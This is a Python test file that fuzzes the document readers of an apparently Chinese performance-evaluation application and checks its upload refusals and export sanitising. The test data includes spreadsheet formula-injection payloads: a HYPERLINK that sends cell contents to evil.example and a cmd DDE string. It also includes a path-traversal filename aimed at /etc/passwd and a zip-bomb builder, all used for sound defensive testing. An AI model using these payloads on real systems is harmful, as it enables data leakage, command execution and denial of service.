"""Hostile input: whatever bytes arrive, the readers answer with their documented error in Chinese (or a
result), never a crash and never a hang (hypothesis, each example under a deadline); uploads through
the API that are oversized, malformed or malicious are refused with a Chinese message and write
nothing; every export (workbook, official forms, open data) keeps text that starts like a formula
from ever being run by a spreadsheet.

Fuzzed: the value parser (any text), the workbook reader and the official-form reader (a real file
with bytes changed, cut, or its sheet XML changed inside an intact package), the published-report
reader (a real report's .docx and .pdf changed the same ways). The report text parser and the
checks are fuzzed in tests/checks/test_fuzz.py."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta
from functools import lru_cache

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jixiao.documents.workbook import WorkbookError
from jixiao.domain.values import ValueParseError, parse_value

FUZZ = settings(max_examples=60, deadline=timedelta(seconds=10), suppress_health_check=[HealthCheck.too_slow],
                derandomize=True)

# --- the files to mangle ------------------------------------------------------------------------


@lru_cache
def reference():
    from importlib import resources

    from jixiao.documents.datafile import load_document

    return load_document(resources.files("jixiao.demo") / "data" / "440112-gsl-2022.yaml")


@lru_cache
def workbook() -> bytes:
    from jixiao.documents.workbook import workbook_bytes

    return workbook_bytes(reference())


@lru_cache
def project_forms() -> bytes:
    from jixiao.documents.forms.writer import write_project_forms

    buffer = io.BytesIO()
    write_project_forms(reference(), buffer)
    return buffer.getvalue()


@lru_cache
def report(kind: str) -> bytes:
    from jixiao.documents.report import render_docx, render_pdf

    buffer = io.BytesIO()
    (render_docx if kind == "docx" else render_pdf)(reference(), buffer)
    return buffer.getvalue()


def changed(data: bytes, edits: list[tuple[int, int]], cut: int | None) -> bytes:
    out = bytearray(data)
    for position, value in edits:
        out[position % len(out)] = value
    return bytes(out[:cut] if cut else out)


def changed_inside(data: bytes, member_pick: int, edits: list[tuple[int, int]]) -> bytes:
    """The package intact, one XML member's bytes changed (so the reader gets past the zip)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    names = [n for n in source.namelist() if n.endswith(".xml")]
    target = names[member_pick % len(names)]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name in source.namelist():
            content = source.read(name)
            if name == target:
                content = changed(content, edits, None)
            package.writestr(name, content)
    return out.getvalue()


EDITS = st.lists(st.tuples(st.integers(0, 10**7), st.integers(0, 255)), min_size=1, max_size=12)
CUT = st.one_of(st.none(), st.integers(1, 10**6))


def _chinese(message: str) -> bool:
    return any("\u4e00" <= ch <= "\u9fff" for ch in message)


# --- the value parser ---------------------------------------------------------------------------

@FUZZ
@given(st.text(max_size=200), st.sampled_from(["", "%", "人次", "万元", "场"]), st.booleans())
def test_any_text_is_a_value_or_a_clear_refusal(text, unit, target):
    try:
        parse_value.__wrapped__(text, unit=unit, target=target)
    except ValueParseError as exc:
        assert _chinese(str(exc))


# --- the workbook and official-form readers -----------------------------------------------------

def _read_workbook(data: bytes) -> None:
    from jixiao.documents.workbook.reader import read_workbook_file

    try:
        read_workbook_file(data)
    except WorkbookError as exc:
        assert exc.problems and all(_chinese(p.message) for p in exc.problems)


def _read_forms(data: bytes) -> None:
    from jixiao.documents.forms.reader import read_project_forms

    try:
        read_project_forms(data, region_code="440112", department_code="440112-107")
    except WorkbookError as exc:
        assert exc.problems and all(_chinese(p.message) for p in exc.problems)


READERS = {"workbook": (_read_workbook, workbook), "official forms": (_read_forms, project_forms)}


@FUZZ
@given(st.sampled_from(sorted(READERS)), EDITS, CUT)
def test_a_mangled_workbook_or_official_form_is_refused_clearly(which, edits, cut):
    read, original = READERS[which]
    read(changed(original(), edits, cut))


@FUZZ
@given(st.sampled_from(sorted(READERS)), st.integers(0, 50), EDITS)
def test_a_workbook_or_official_form_with_mangled_sheets_is_refused_clearly(which, member, edits):
    read, original = READERS[which]
    read(changed_inside(original(), member, edits))


# --- the published-report reader ----------------------------------------------------------------

@pytest.fixture(scope="module")
def rendered_reports():
    """The reports to mangle, rendered before the examples: each example's deadline is for reading
    one file (a hang), not for the first example's rendering of a PDF on a busy machine."""
    return report("docx"), report("pdf")


def _parse_report(data: bytes, suffix: str, tmp_path_factory) -> None:
    from jixiao.published import ReportFileError, parse_report_file

    path = tmp_path_factory.mktemp("report") / f"报告.{suffix}"
    path.write_bytes(data)
    try:
        parse_report_file(path)
    except ReportFileError as exc:
        assert _chinese(str(exc))


@FUZZ
@given(st.sampled_from(["docx", "pdf"]), EDITS, CUT)
def test_a_mangled_published_report_is_read_or_refused_clearly(rendered_reports, tmp_path_factory, kind, edits, cut):
    _parse_report(changed(report(kind), edits, cut), kind, tmp_path_factory)


@FUZZ
@given(st.integers(0, 50), EDITS)
def test_a_published_docx_with_mangled_xml_is_read_or_refused_clearly(rendered_reports, tmp_path_factory, member,
                                                                      edits):
    _parse_report(changed_inside(report("docx"), member, edits), "docx", tmp_path_factory)


# --- formula injection in every export ----------------------------------------------------------

FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "=1+1")


def hostile_document():
    doc = reference()
    tasks = []
    for n, task in enumerate(doc.tasks):
        indicators = tuple(i.__class__(**{**i.__dict__, "name": FORMULAS[k % len(FORMULAS)] + i.name,
                                          "deviation_reason": FORMULAS[(k + 1) % len(FORMULAS)]})
                           for k, i in enumerate(task.indicators))
        tasks.append(task.__class__(**{**task.__dict__, "name": FORMULAS[n % len(FORMULAS)], "indicators": indicators}))
    return doc.with_changes(tasks=tuple(tasks), department_name="=HYPERLINK(\"http://evil.example\")部门")


def formula_cells(data: bytes) -> list[str]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [f"{sheet.title}!{cell.coordinate}={cell.value!r}" for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f" and any(str(cell.value).startswith(f.strip()[:2])
                                                            for f in FORMULAS)]


def test_no_export_lets_a_spreadsheet_run_text_that_starts_like_a_formula(tmp_path):
    from jixiao.documents.forms.writer import write_department_form, write_project_forms
    from jixiao.documents.opendata import write_open_data
    from jixiao.documents.workbook import workbook_bytes

    doc = hostile_document()
    book = workbook_bytes(doc)
    assert formula_cells(book) == []
    assert any("=HYPERLINK" in str(c.value) for s in __import__("openpyxl").load_workbook(io.BytesIO(book)).worksheets
               for r in s.iter_rows() for c in r)  # the text itself is kept, as text

    for write in (write_project_forms, write_department_form):
        buffer = io.BytesIO()
        write(doc, buffer)
        assert formula_cells(buffer.getvalue()) == []

    folder = tmp_path / "open"
    write_open_data([doc], folder)
    checked = 0
    for path in folder.glob("*.csv"):
        for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip("-").replace(".", "").isdigit(), cell
                checked += cell.startswith("'")
    assert checked >= len(FORMULAS)


# --- uploads through the API --------------------------------------------------------------------

@pytest.fixture
def uploader(personas, reference_document):
    from rest_framework.test import APIClient

    api = APIClient()
    api.force_authenticate(personas["own_staff"])
    return api


def upload(api, name: str, data: bytes):
    file = io.BytesIO(data)
    file.name = name
    return api.post("/api/imports/", {"file": file}, format="multipart")


def _zip_bomb() -> bytes:
    """A real workbook whose first sheet unpacks to 300 MB of blanks (a few hundred kB packed)."""
    source = zipfile.ZipFile(io.BytesIO(workbook()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name in source.namelist():
            content = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                content = content[:-20] + b" " * (300 * 1024 * 1024) + content[-20:]
            package.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize("name, data, said", [
    ("空文件.xlsx", b"", "文件"),
    ("随机.xlsx", bytes(range(256)) * 40, "xlsx"),
    ("伪装.xlsx", b"%PDF-1.7\n" + b"0" * 5000, "xlsx"),
    ("../../etc/passwd.xlsx", b"PK\x03\x04broken", "xlsx"),
    ("炸弹.xlsx", None, "压缩炸弹"),
])
def test_malformed_and_malicious_uploads_are_refused_in_chinese_and_write_nothing(uploader, name, data, said):
    from jixiao.evaluations.models import Evaluation
    from jixiao.events.models import Event

    before = (Evaluation.objects.count(), Event.objects.count())
    response = upload(uploader, name, _zip_bomb() if data is None else data)
    assert response.status_code == 400, response.content[:500]
    text = json.dumps(response.json(), ensure_ascii=False)
    assert said in text and _chinese(text), text
    assert (Evaluation.objects.count(), Event.objects.count()) == before


def test_an_oversized_upload_is_refused_before_it_is_read(uploader, monkeypatch):
    monkeypatch.setenv("JIXIAO_WORKBOOK_MAX_FILE_MB", "1")
    response = upload(uploader, "大文件.xlsx", b"PK\x03\x04" + b"\0" * (3 * 1024 * 1024))
    assert response.status_code == 413
    assert "文件过大" in response.json()["detail"] and "上限 1 MB" in response.json()["detail"]
